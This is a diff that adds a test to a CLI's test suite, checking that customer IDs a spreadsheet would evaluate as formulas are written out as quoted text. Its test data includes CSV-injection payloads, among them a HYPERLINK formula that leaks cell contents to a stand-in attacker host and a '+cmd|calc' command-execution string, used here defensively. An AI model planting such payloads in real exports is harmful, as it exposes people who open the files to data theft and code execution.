@@ -90,6 +90,19 @@ describe('lifecycle-sync classify', () => {
     expect(Number(row?.pAlive)).toBeGreaterThan(0);
   });
 
+  it('writes a customer id that a spreadsheet would run as a formula as text (a leading quote)', async () => {
+    const ids = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+cmd|calc', '@SUM(1+1)', '-2+3', 'plain'];
+    const rows = ids.flatMap((id) => [[id, '2024-01-05', '10.5'], [id, '2024-03-01', '20']]);
+    const path = file('formulas.csv', Papa.unparse({ fields: ['customer_id', 'date', 'amount'], data: rows }));
+    const r = await runCli(['classify', '--transactions', path, '--as-of', '2024-06-01', '--format', 'csv']);
+    expect(r.code, r.stderr).toBe(0);
+    const parsed = Papa.parse<Record<string, string>>(r.stdout.trim(), { header: true });
+    const written = parsed.data.map((d) => d.customerId).sort();
+    expect(written).toEqual([...ids.filter((id) => id !== 'plain').map((id) => `'${id}`), 'plain'].sort());
+    // Numeric columns stay numbers.
+    for (const d of parsed.data) expect(d.ltv).toBe('30.5');
+  });
+
   it('reports bad rows with their line numbers, skips them and says how many in the summary', async () => {
     const path = file('bad.csv', 'customer_id,date,amount\na,2024-01-01,10\nb,not-a-date,5\nc,2024-02-01,abc\na,2024-03-01,20\n');
     const r = await runCli(['classify', '--transactions', path]);
